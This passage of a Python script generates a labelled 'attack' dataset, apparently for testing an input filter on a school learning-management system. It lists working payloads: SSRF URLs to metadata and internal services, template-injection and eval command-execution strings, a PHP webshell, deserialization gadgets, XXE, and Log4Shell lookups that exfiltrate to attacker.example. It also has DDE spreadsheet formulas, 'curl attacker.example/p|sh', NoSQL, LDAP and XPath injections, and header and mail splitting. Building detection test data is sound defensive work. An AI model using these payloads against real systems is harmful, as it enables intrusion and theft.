    ("url-fetch-java-jar", "jar:http://attacker.example/a.jar!/syllabus.html"),
    ("url-fetch-zero-address", "http://0.0.0.0:8000/admin"),
    ("url-fetch-ipv6-loopback", "http://[::1]:5000/internal/users"),
    ("url-fetch-ipv4-mapped-ipv6", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
    ("url-fetch-ipv6-long-mapped", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/lti/launch"),
    ("url-fetch-short-ip", "http://127.1/server-status"),
    ("url-fetch-zero-short", "http://0/admin"),
    ("url-fetch-userinfo-confusion", "https://lms.school.example@127.0.0.1/admin"),
    ("url-fetch-fragment-confusion", "http://127.0.0.1:9000#@lms.school.example/syllabus.pdf"),
    ("url-fetch-backslash-confusion", "http://attacker.example\\@lms.school.example/"),
    ("url-fetch-open-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("url-fetch-dns-rebinding", "http://rebind.attacker.example:8080/internal/grades"),
    ("url-fetch-dns-to-metadata", "http://169-254-169-254.attacker.example/latest/meta-data/"),
    ("url-fetch-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("url-fetch-docker-socket-api", "http://172.17.0.1:2375/containers/json?all=1"),
    ("url-fetch-elasticsearch", "http://10.0.0.5:9200/_cat/indices?v"),
    ("url-fetch-consul", "http://localhost:8500/v1/kv/?recurse"),
    ("url-fetch-internal-service", "http://grader-internal.svc.cluster.local:9000/api/v1/solutions?course=CS-101"),
    ("url-fetch-private-range", "http://192.168.1.1/cgi-bin/luci"),
    ("git-clone-file-url", "file:///srv/grader/solutions.git"),
    ("git-clone-localhost", "http://127.0.0.1:3000/admin/cs101-solutions.git"),
    ("lti-launch-internal", "http://10.10.0.12:8443/lti/launch?course=4821"),
    ("webhook-grade-export-internal", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("ical-feed-metadata", "webcal://169.254.169.254/latest/meta-data/"),
    ("avatar-unc-path", "\\\\203.0.113.5\\share\\avatar.png"),
    ("avatar-unc-url", "file://198.51.100.12/share/profile.jpg"),
    ("doi-resolver-redirect", "https://attacker.example/doi/10.1000/182?next=http://localhost:8983/solr/admin/cores"),
    ("url-fetch-ftp-internal", "ftp://10.0.0.7/backups/gradebook.sql"),
    ("url-fetch-tftp", "tftp://203.0.113.44/x"),
    ("url-fetch-ldap-scheme", "ldap://127.0.0.1:389/dc=school,dc=example?userPassword?sub"),
    # encodings / alternative forms
    ("url-fetch-decimal-ip", "http://2130706433:8000/admin"),
    ("url-fetch-hex-ip", "http://0x7f.0x0.0x0.0x1/admin"),
    ("url-fetch-octal-ip", "http://0177.0.0.1/server-status"),
    ("url-fetch-decimal-metadata", "http://2852039166/latest/meta-data/"),
    ("url-fetch-host+url", "http://%31%32%37%2e%30%2e%30%2e%31:8080/admin"),
    ("url-fetch-host+unicode-enclosed", "http://①②⑦.⓪.⓪.①/admin"),
    # plain
    ("plain-metadata", "http://169.254.169.254/"),
    ("plain-localhost", "http://localhost/"),
    ("plain-loopback-ip", "http://127.0.0.1/"),
    ("plain-ipv6-loopback", "http://[::1]/"),
    ("url-fetch-localhost+url", "http://%6c%6f%63%61%6c%68%6f%73%74:8080/admin"),
]

SSRF_IPS = [(127, 0, 0, 1), (169, 254, 169, 254), (10, 0, 0, 1), (192, 168, 0, 10)]
SSRF_PATHS = ["/admin", "/latest/meta-data/", "/internal/grades", "/api/v1/users", "/actuator/env", "/.env"]


def tpl_ssrf(rng):
    a, b, c, d = rng.choice(SSRF_IPS)
    form = rng.choice(["dec", "hex", "oct", "hexint", "mixed"])
    if form == "dec":
        host = str((a << 24) | (b << 16) | (c << 8) | d)
    elif form == "hex":
        host = ".".join(f"0x{x:02x}" for x in (a, b, c, d))
    elif form == "oct":
        host = ".".join(f"0{x:o}" for x in (a, b, c, d))
    elif form == "hexint":
        host = f"0x{(a << 24) | (b << 16) | (c << 8) | d:08x}"
    else:
        host = f"{a}.{(b << 16) | (c << 8) | d}"
    return f"url-fetch-alt-ip-{form}", f"http://{host}{rng.choice(SSRF_PATHS)}"


# ---------------------------------------------------------------- code injection / SSTI / deserialization / XXE / lookups / pollution / CSV
CODE = [
    # Jinja2 (certificate name, email template)
    ("jinja2-cycler-globals", "Certificate for {{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("jinja2-context-joiner", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("jinja2-subclasses-enum", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("jinja2-config-leak", "Dear {{ config.items() }},"),
    ("jinja2-catch-warnings-loop", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("jinja2-request-globals", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("jinja2-lipsum-globals", "Hi {{ lipsum.__globals__['os'].popen('whoami').read() }}!"),
    ("jinja2-attr-filter+hex-escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}"),
    ("jinja2-url-for-globals", "{{ url_for.__globals__.current_app.config['SECRET_KEY'] }}"),
    # Twig / Smarty
    ("twig-filter-system", "{{ ['id']|filter('system') }}"),
    ("twig-undefined-filter-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("smarty-function-system", "Course: {system('cat /etc/passwd')}"),
    # Java engines
    ("freemarker-execute-new", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("velocity-runtime-exec", "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("thymeleaf-preprocess-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("spel-runtime-exec", "${T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("spel-hash-getenv", "#{T(java.lang.System).getenv()}"),
    ("ognl-runtime-exec", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    # Ruby / JS / Python template engines
    ("erb-backtick", "Welcome <%= `cat /etc/passwd` %>"),
    ("erb-system", "<%= system('id') %>"),
    ("pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ejs-child-process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("mako-expression", "${__import__('os').popen('id').read()}"),
    ("tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    # answer checker evaluates math expression (Python eval / sympify)
    ("python-eval-import-os", "__import__('os').system('id')"),
    ("python-eval-math-answer", "x**2 + __import__('subprocess').getoutput('cat /etc/passwd')"),
    ("python-eval-subclasses", "().__class__.__bases__[0].__subclasses__()"),
    ("python-eval-exec-string", "exec(\"import os; os.system('curl attacker.example/p|sh')\")"),
    ("python-eval-open-file", "open('/srv/grader/answers.json').read()"),
    ("python-eval-popen-subclass", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id',shell=True)"),
    ("python-sympify-lambda", "(lambda: __import__('os').popen('id').read())()"),
    ("python-eval-builtins-getattr", "getattr(__builtins__, '__imp' + 'ort__')('os').popen('id').read()"),
    # Node.js formula grader (vm / eval)
    ("node-eval-child-process", "require('child_process').execSync('cat /etc/passwd').toString()"),
    ("node-vm-escape", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    # Ruby / PHP eval and uploads
    ("ruby-eval-popen", "IO.popen('id').read"),
    ("php-upload-webshell", "<?php system($_GET['c']); ?>"),
    ("php-eval-complex-string", "${system('id')}"),
    ("php-assert-eval", "1');system('id');//"),
    ("ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("esi-include", "Office hours moved <esi:include src=\"http://attacker.example/esi.html\"/>"),
    # deserialization
    ("pickle-protocol0-base64", "Y29zCnN5c3RlbQooUydpZCcKdFIu"),
    ("pyyaml-apply-system", "!!python/object/apply:os.system [\"id\"]"),
    ("pyyaml-new-check-output", "rubric: !!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("snakeyaml-script-engine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]"),
    ("php-unserialize-object", "O:9:\"Gradebook\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("jsonnet-typename-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("jackson-polymorphic-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}]"),
    ("node-serialize-iife", "{\"quizState\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    # XXE (QTI quiz import, docx, svg)
    ("xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><assessmentItem><itemBody>&x;</itemBody></assessmentItem>"),
    ("xxe-parameter-entity-oob", "<?xml version=\"1.0\"?><!DOCTYPE quiz [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><quiz title=\"Week 3\"/>"),
    ("xxe-billion-laughs", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">]><r>&e;&e;&e;&e;</r>"),
    ("xinclude-file", "<quiz xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/hostname\"/></quiz>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///srv/autograder/config.yml\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text y=\"20\">&h;</text></svg>"),
    ("xxe-php-expect", "<!DOCTYPE a [<!ENTITY e SYSTEM \"expect://id\">]><answer>&e;</answer>"),
    # Log4Shell-style lookups in logged fields
    ("log4j-jndi-ldap", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4j-jndi-lower-obfuscated", "Prof. ${${lower:j}${lower:n}di:rmi://203.0.113.4/x}"),
    ("log4j-jndi-default-obfuscated", "${${::-j}${::-n}${::-d}${::-i}:dns://attacker.example/q}"),
    ("log4j-env-exfil", "${jndi:ldap://${env:USER}.attacker.example/a}"),
    ("log4j-jndi-in-essay", "My name is ${jndi:ldaps://attacker.example/p} and I love chemistry."),
    # prototype pollution
    ("proto-pollution-json-admin", "{\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-pollution-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"instructor\"}}}"),
    ("proto-pollution-query", "settings[__proto__][gradeOverride]=1"),
    ("proto-pollution-ejs-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    ("proto-pollution-dot-path", "__proto__.canEditGrades=true"),
    # CSV formula in gradebook export
    ("csv-formula-hyperlink", "=HYPERLINK(\"https://attacker.example/?g=\"&B2&C2,\"Click for regrade\")"),
    ("csv-formula-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-formula-plus-dde", "+1+cmd|' /C powershell -w hidden iwr attacker.example/p'!A0"),
    ("csv-formula-at-sum", "@SUM(1+1)*cmd|' /C notepad'!A0"),
    ("csv-formula-minus-dde", "-2+3+cmd|' /C calc'!B1"),
    ("csv-formula-importxml", "=IMPORTXML(CONCAT(\"https://attacker.example/?d=\",A1:A40),\"//a\")"),
    ("csv-formula-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&A2&B2)"),
    # encodings
    ("jinja2-request-args+url", "%7B%7B%20cycler.__init__.__globals__.os.popen(%27id%27).read()%20%7D%7D"),
    ("log4j-jndi+url", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D"),
    # plain
    ("plain-ssti-probe-exec", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("plain-jndi", "${jndi:ldap://attacker.example/x}"),
    ("plain-python-eval", "__import__('os').popen('id').read()"),
    ("plain-erb-backtick", "<%= `id` %>"),
    ("plain-proto-pollution", "{\"__proto__\":{\"polluted\":\"yes\"}}"),
]

CODE_NAMES = ["Jamie O'Neil", "Dr. Lee", "Team 7", "Student", "Siobhán"]
CODE_TPLS = [
    ("jinja2-name-popen-templated", "{n} {{{{ cycler.__init__.__globals__.os.popen('{c}').read() }}}}"),
    ("log4j-name-jndi-templated", "{n} ${{jndi:ldap://{h}/{c2}}}"),
    ("csv-formula-name-templated", "=HYPERLINK(\"https://{h}/?n=\"&A{r},\"{n}\")"),
]
CODE_CMDS = ["id", "whoami", "cat /etc/passwd", "ls /srv/grader", "env"]
CODE_HOSTS = ["attacker.example", "x.attacker.example", "203.0.113.21", "198.51.100.77"]


def tpl_code(rng):
    cls, form = rng.choice(CODE_TPLS)
    return cls, form.format(n=rng.choice(CODE_NAMES), c=rng.choice(CODE_CMDS), h=rng.choice(CODE_HOSTS),
                            c2=rng.choice(["a", "cert", "q", "x1"]), r=rng.randint(2, 40))


# ---------------------------------------------------------------- NoSQL injection
NOSQLI = [
    ("mongo-json-ne-null", "{\"netid\": \"prof_lee\", \"password\": {\"$ne\": null}}"),
    ("mongo-json-gt-empty", "{\"$gt\": \"\"}"),
    ("mongo-json-string-breakout", "admin\", \"password\": {\"$ne\": \"x\"}, \"z\": \""),
    ("mongo-query-ne", "student_id[$ne]=0"),
    ("mongo-query-regex", "password[$regex]=^a.*"),
    ("mongo-query-nin", "role[$nin][]=student"),
    ("mongo-where-sleep", "{\"$where\": \"sleep(3000) || true\"}"),
    ("mongo-where-string-break", "'; return true; var x='"),
    ("mongo-where-loop-dos", "1; while(true){}"),
    ("mongo-where-field-probe", "{\"grade\": {\"$in\": [\"A\", \"A-\"]}, \"$where\": \"this.ssn != null\"}"),
    ("mongo-expr-tautology", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("mongo-regex-any-admin", "{\"netid\": {\"$regex\": \".*\"}, \"role\": \"admin\"}"),
    ("mongo-or-empty", "{\"$or\": [{}, {\"course\": \"CS-101\"}]}"),
    ("mongo-lookup-pipeline", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("mongo-where-blind-match", "' || this.password.match(/^a/) || '"),
    ("mongo-json-exists", "{\"reset_token\": {\"$exists\": true}}"),
    ("mongo-regex-blind-prefix", "{\"netid\": \"prof_lee\", \"password\": {\"$regex\": \"^p4\"}}"),
    ("mongo-function-where", "{\"$where\": \"function(){ return this.role == 'registrar' }\"}"),
    ("mongo-query-gt-grade", "grade[$gt]=&course=CS-101"),
    ("mongo-set-operator-update", "{\"$set\": {\"grade\": \"A+\", \"role\": \"instructor\"}}"),
    ("couch-mango-selector", "{\"selector\": {\"password\": {\"$gt\": null}}}"),
    ("mongo-query-ne+url", "password%5B%24ne%5D=1"),
    ("plain-ne", "{\"$ne\": 1}"),
    ("plain-where-true", "{\"$where\": \"1 == 1\"}"),
    ("plain-regex-any", "{\"$regex\": \".*\"}"),
    ("plain-query-ne", "[$ne]=1"),
    ("mongo-where-sleep+unicode-escape", "{\"$where\": \"sl\\u0065ep(5000) || true\"}"),
]

# ---------------------------------------------------------------- CRLF / log / header / mail
CRLF = [
    ("log-line-forged-info", "jlo23\n2024-10-03 12:00:01 INFO grade change approved by registrar for 2024-00871"),
    ("log-line-forged-audit", "hw3.py\r\n[AUDIT] instructor prof_lee exported all grades to attacker.example"),
    ("log-line-forged-login", "Week 9 question\n[auth] login success user=admin ip=10.0.0.1"),
    ("log-line-ansi-escape", "help pls\u001b[2J\u001b[1;1HINFO all tests passed for every student"),
    ("log-line-forged-json", "quiz7\n{\"level\":\"info\",\"msg\":\"regrade accepted\",\"student\":\"2024-00871\",\"score\":100}"),
    ("header-redirect-set-cookie", "/courses/4821%0d%0aSet-Cookie:%20lms_session=attacker-fixed-id"),
    ("header-redirect-location", "/dashboard%0d%0aLocation:%20https://attacker.example/"),
    ("header-content-disposition-split", "report.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(document.cookie)</script>"),
    ("header-response-split-full", "/grades%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("header-redirect-lf-only", "/syllabus%0aX-Forwarded-Host:%20attacker.example"),
    ("header-filename-set-cookie", "hw3_final(2).py\r\nSet-Cookie: role=instructor; Path=/"),
    ("header-redirect+utf8-mangled", "/dashboard%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("header-redirect-cors", "/api/grades%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
    ("mail-header-bcc", "parent@mail.example\r\nBcc: everyone@attacker.example"),
    ("mail-subject-cc-html", "Question about grades\nCc: list@attacker.example\nContent-Type: text/html\n\n<a href=https://attacker.example/pay>Pay field trip fee</a>"),
    ("mail-name-reply-to", "Lisa Chen\r\nReply-To: support@attacker.example"),
    ("mail-header-bcc+url", "x@mail.example%0ABcc:victim@mail.example"),
    ("mail-header-to-override", "Mr. Okafor\r\nTo: all-parents@school.example\r\nSubject: URGENT tuition refund"),
    ("mail-smtp-smuggle", "Thanks!\r\n.\r\nMAIL FROM:<registrar@school.example>\r\nRCPT TO:<student@mail.example>\r\nDATA\r\nSubject: Tuition refund\r\n\r\nClaim it at https://attacker.example/refund\r\n."),
    ("mail-header-from-spoof", "Jamie's mom\nFrom: principal@school.example"),
    ("mail-multipart-inject", "Field trip\r\nContent-Type: multipart/mixed; boundary=zz\r\n\r\n--zz\r\nContent-Type: text/html\r\n\r\n<form action=https://attacker.example>Re-enter password</form>\r\n--zz--"),
    ("log-line-forged+url", "jlo23%0d%0a2024-10-03%2012:00:01%20WARN%20password%20reset%20for%20prof_lee"),
    ("header-redirect+double-url", "/courses%250d%250aSet-Cookie:%2520admin=1"),
    ("header-host-split", "lms.school.example\r\nX-Original-URL: /admin/grades"),
    ("csv-log-newline-row", "Jamie\n2024-00872,Evil,Student,A+"),
    ("plain-crlf-set-cookie", "%0d%0aSet-Cookie:%20a=b"),
    ("plain-crlf-raw", "x\r\nInjected-Header: 1"),
    ("plain-lf-header", "%0aX-Injected: 1"),
    ("header-redirect+unicode-truncation", "/next%C4%8D%C4%8ASet-Cookie:%20lms_session=attacker-fixed-id"),
]

CRLF_USERS = ["jlo23", "soneill", "d.washington", "amara.n", "kenji_t"]
CRLF_FORGED = ["INFO grade override approved", "INFO user promoted to instructor", "WARN audit log rotated",
               "INFO final grades published"]


def tpl_crlf(rng):
    nl = rng.choice(["\n", "\r\n", "%0a", "%0d%0a"])
    cls = "log-line-forged-templated" + ("+url" if nl.startswith("%") else "")
    return cls, f"{rng.choice(CRLF_USERS)}{nl}2024-11-{rng.randint(10, 28)} 0{rng.randint(1, 9)}:14:07 {rng.choice(CRLF_FORGED)}"


# ---------------------------------------------------------------- LDAP / XPath
LDAP_XPATH = [
    ("ldap-login-wildcard", "*"),
    ("ldap-login-always-true", "prof_lee)(&)"),
    ("ldap-login-or-inject", "*)(uid=*))(|(uid=*"),
    ("ldap-login-password-prefix", "admin)(userPassword=a*"),
    ("ldap-search-attribute-leak", "Smith*)(userPassword=*"),
    ("ldap-search-or-mail", "x*)(|(mail=*@school.example)"),
    ("ldap-search-group-probe", "*)(memberOf=cn=faculty,ou=groups,dc=school,dc=example"),
    ("ldap-search-objectclass", "Nguyen)(objectClass=*"),
    ("ldap-login-null-comment", "jlo23)(|(objectClass=*))%00"),
    ("ldap-search-wildcard+url", "%2a%29%28uid%3d%2a"),
    ("xpath-string-tautology", "' or '1'='1"),
    ("xpath-union-node", "x'] | //student/ssn | //x['"),
    ("xpath-count-probe", "' or count(//student)>0 or 'a'='b"),
    ("xpath-blind-substring", "' and substring(//teacher[1]/password,1,1)='a' and '1'='1"),
    ("xpath-root-name-probe", "' or name(/*[1])='gradebook' or '"),
    ("xpath-numeric-tautology", "1 or 1=1"),
    ("xpath2-doc-exfil", "' or doc(concat('http://attacker.example/?', //teacher[1]/password))/x or '"),
    ("xpath-string-length-blind", "O''Brien' or string-length(//user[role='registrar']/pass)>8 or 'a'='b"),
    ("plain-ldap-wildcard-close", "*)(cn=*"),
    ("plain-xpath-or", "\" or \"1\"=\"1"),
    ("plain-ldap-objectclass", "*)(|(objectClass=*"),
    ("plain-xpath-or-empty", "' or 1=1 or ''='"),
    ("xpath-string-tautology+url", "%27%20or%20%271%27%3D%271"),
]

CATEGORIES = [
    ("sqli", SQLI, tpl_sqli, 6),
    ("xss", XSS, tpl_xss, 2),
    ("cmdi", CMDI, tpl_cmdi, 8),
    ("traversal", TRAVERSAL, tpl_traversal, 6),
    ("ssrf", SSRF, tpl_ssrf, 2),
    ("code", CODE, tpl_code, 1),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, tpl_crlf, 4),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    benign_path = Path(__file__).with_name("benign.jsonl")
    benign_vals = set()
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            for line in fh:
                benign_vals.add(json.loads(line)["value"])
    stats = []
    total_lit = 0
    for cat, literals, tpl, n_tpl in CATEGORIES:
        cat_rows = []
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            cat_rows.append((cls, v))
        n_lit = len(cat_rows)
        added = 0
        tries = 0
        while added < n_tpl:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template for {cat} cannot fill")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            cat_rows.append((cls, v))
            added += 1
        stats.append((cat, len(cat_rows), n_lit))
        total_lit += n_lit
        for cls, v in cat_rows:
            rows.append((cat, cls, v))
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, v
        if v in benign_vals:
            raise SystemExit(f"value also in benign.jsonl: {v!r}")
        out.append({"id": f"ha29-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v})
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for o in out:
            fh.write(json.dumps(o, ensure_ascii=False) + "\n")
    for cat, n, nl in stats:
        print(f"{cat:12s} {n:4d}  literals {nl}")
    print(f"total {len(out)}  literals {total_lit} ({100.0 * total_lit / len(out):.1f}%)")


if __name__ == "__main__":
    main()
